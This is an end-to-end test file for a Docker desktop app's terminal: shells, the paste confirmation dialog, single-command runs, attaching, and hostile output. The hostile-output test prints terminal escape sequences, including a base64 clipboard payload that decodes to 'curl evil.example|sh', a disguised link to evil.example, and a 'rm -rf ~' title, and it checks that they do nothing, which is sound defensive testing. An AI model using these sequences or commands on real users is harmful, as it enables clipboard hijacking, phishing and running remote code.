/** Terminals in the real window on a real engine: what is typed, what is shown, and what the bytes of a program can't do. */
import { expect, test, testImages } from '../support/fixtures'
import { mainWindow } from '../pages/main-window'
import { terminalTab } from '../pages/terminal-tab'

/** Engines under load start an exec in seconds. */
const slow = { timeout: 30_000 }

test('a shell takes what is typed, survives navigation and a reload, and says how it ended', async ({
  docker,
  openWindow,
}) => {
  const id = await docker.run('run', '--detach', '--name', 'web', testImages.sleeper)
  const { page } = await openWindow()
  const window = mainWindow(page)
  const terminal = terminalTab(page)
  await terminal.open(id)
  await terminal.newShell()
  await expect(terminal.dockerCommand).toContainText(/exec -it web \/bin\/sh$/)
  await terminal.type('x=né; stty size; echo "<$x $((6*7))>"\n')
  await expect(terminal.screen).toContainText('<né 42>', slow)
  const sizes = await terminal.screen.innerText()
  const [, rows, columns] = /(\d+) (\d+)/.exec(sizes.replaceAll('\u00a0', ' ')) ?? []
  expect(Number(rows)).toBeGreaterThan(5)
  expect(Number(columns)).toBeGreaterThan(60)

  await window.go('Networks')
  await terminal.open(id)
  await expect(terminal.screen).toContainText('<né 42>', slow)
  await terminal.type('echo "again $x"\n')
  await expect(terminal.screen).toContainText('again né', slow)

  await page.reload()
  await expect(terminal.screen).toContainText('again né', slow)
  await terminal.type('exit 7\n')
  await expect(terminal.ended).toContainText('Ended with exit code 7.', slow)
  await expect(terminal.ended).toContainText('does not come back')
  await page.getByRole('button', { name: 'Close terminal', exact: true }).click()
  await expect(page.getByText('No terminal is open')).toBeVisible()
})

test('several lines are shown before they are pasted, and only then', async ({ docker, openWindow }) => {
  const id = await docker.run('run', '--detach', '--name', 'web', testImages.sleeper)
  const { page } = await openWindow()
  const window = mainWindow(page)
  const terminal = terminalTab(page)
  await terminal.open(id)
  await terminal.newShell()
  await terminal.paste('echo one-$((1+0))-line')
  await expect(terminal.screen).toContainText('echo one-$((1+0))-line', slow)
  await terminal.type('\n')
  await expect(terminal.screen).toContainText('one-1-line', slow)

  const dialog = window.dialog('Paste several lines')
  await terminal.paste('echo first-$((1+1))\necho sec\u001b[201~ond-$((1+2))\n')
  await expect(dialog).toContainText('2 lines would be sent to the terminal in web')
  await expect(dialog).toContainText('1 control character is left out.')
  await expect(dialog.getByRole('listitem')).toHaveText(['echo first-$((1+1))', 'echo sec[201~ond-$((1+2))'])
  await dialog.getByRole('button', { name: 'Cancel', exact: true }).click()
  await terminal.type('echo nothing-$((3+4))\n')
  await expect(terminal.screen).toContainText('nothing-7', slow)
  await expect(terminal.screen).not.toContainText('first')

  await terminal.paste('echo first-$((1+1))\necho second-$((1+2))\n')
  await dialog.getByRole('button', { name: 'Paste', exact: true }).click()
  await expect(terminal.screen).toContainText('second-3', slow)
  await expect(terminal.screen).toContainText('first-2')
})

test('one command gives its output and exit code, and what needs a shell is said', async ({
  docker,
  openWindow,
}) => {
  const id = await docker.run('run', '--detach', '--name', 'web', testImages.sleeper)
  const { page } = await openWindow()
  const window = mainWindow(page)
  const terminal = terminalTab(page)
  await terminal.open(id)
  await terminal.button('Run a command…').click()
  const dialog = window.dialog('Run a command')
  await dialog.getByRole('textbox', { name: 'Command', exact: true }).fill('echo "a  b" | wc -c; exit 3')
  await expect(dialog.getByRole('button', { name: 'Run', exact: true })).toBeDisabled()
  await expect(dialog).toContainText('No shell reads this line')
  await dialog.getByRole('button', { name: 'Run it in sh' }).click()
  await expect(dialog.getByRole('region', { name: 'Docker command' })).toContainText(
    `exec web sh -c 'echo "a  b" | wc -c; exit 3'`,
  )
  await dialog.getByRole('button', { name: 'Run', exact: true }).click()
  await expect(terminal.ended).toContainText('Ended with exit code 3.', slow)
  await expect(terminal.screen).toContainText('5')
})

test('attached to the main process: Ctrl-C asks first, and detaching leaves it running', async ({
  docker,
  openWindow,
}) => {
  const id = await docker.run('run', '-dit', '--name', 'inter', testImages.base, 'sh')
  const { page } = await openWindow()
  const window = mainWindow(page)
  const terminal = terminalTab(page)
  await terminal.open(id)
  await terminal.button('Attach…').click()
  const dialog = window.dialog('Attach to the main process')
  await expect(dialog.getByRole('region', { name: 'Docker command' }).locator('code')).toHaveText(
    /attach --detach-keys ctrl-t,ctrl-t inter$/,
  )
  await dialog.getByRole('button', { name: 'Attach', exact: true }).click()
  await expect(page.getByText('Ctrl+T Ctrl+T detaches')).toBeVisible(slow)
  await terminal.type('echo pid $$\n')
  await expect(terminal.screen).toContainText('pid 1', slow)
  await page.keyboard.press('Control+C')
  const warning = window.dialog('Send Ctrl+C to the main process')
  await expect(warning).toContainText('the container stops')
  await warning.getByRole('button', { name: 'Cancel', exact: true }).click()
  await expect(terminal.input).toBeFocused()
  await page.keyboard.press('Control+T')
  await page.keyboard.press('Control+T')
  await expect(terminal.ended).toContainText('Detached.', slow)
  expect((await docker.inspect('inter')).State.Running).toBe(true)
})

test('hostile bytes do nothing but show, and 10 MB leave the window free', async ({ docker, openWindow }) => {
  const id = await docker.run('run', '--detach', '--name', 'web', testImages.sleeper)
  const { electron, page } = await openWindow()
  const terminal = terminalTab(page)
  await electron.evaluate(({ clipboard }) => void clipboard.writeText('untouched'))
  const title = () => electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0]?.getTitle())
  const titleBefore = await title()
  await terminal.open(id)
  await terminal.newShell()
  const hostile = [
    String.raw`\033]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\007\033]52;c;?\007`,
    String.raw`\033]8;;https://evil.example/login\033\\github\033]8;;\033\\`,
    String.raw`\033]0;rm -rf ~\007\033[21t\033P$q"p\033\\\033]10;?\007\033]4;1;?\007`,
  ].join('')
  // What the terminal types by itself would land in `read`, which waits until the bytes have been shown.
  await terminal.type(`printf '${hostile}'; stty -echo; read -t 3 typed; stty echo; echo "typed<$typed>"\n`)
  await expect(terminal.screen).toContainText('typed<>', slow)
  await expect(terminal.screen).toContainText('github')
  // The text of the link, as far as the pointer is concerned.
  const box = await terminal.screen.getByText('github').last().boundingBox()
  await page.keyboard.down('Control')
  await page.mouse.click((box?.x ?? 0) + 20, (box?.y ?? 0) + 8)
  await page.keyboard.up('Control')
  await expect(page.getByRole('dialog')).toHaveCount(0)
  expect(await electron.evaluate(({ clipboard }) => clipboard.readText())).toBe('untouched')
  expect(await title()).toBe(titleBefore)
  expect(await electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)

  await page.evaluate(() => {
    const state = { last: performance.now(), longest: 0 }
    Object.assign(window, { frames: state })
    const next = () => {
      const now = performance.now()
      state.longest = Math.max(state.longest, now - state.last)
      state.last = now
      requestAnimationFrame(next)
    }
    requestAnimationFrame(next)
  })
  await terminal.type(`head -c 10485760 /dev/zero | tr '\\0' x | fold -w 100; echo; echo all-$((1+1))-done\n`)
  await expect(terminal.screen).toContainText('all-2-done', { timeout: 60_000 })
  const longest = await page.evaluate(
    () => (window as unknown as { frames: { longest: number } }).frames.longest,
  )
  test.info().annotations.push({ type: 'longest frame, ms', description: String(Math.round(longest)) })
  // Generous, as the machine may be busy: without flow control it is seconds.
  expect(longest).toBeLessThan(1_500)
})
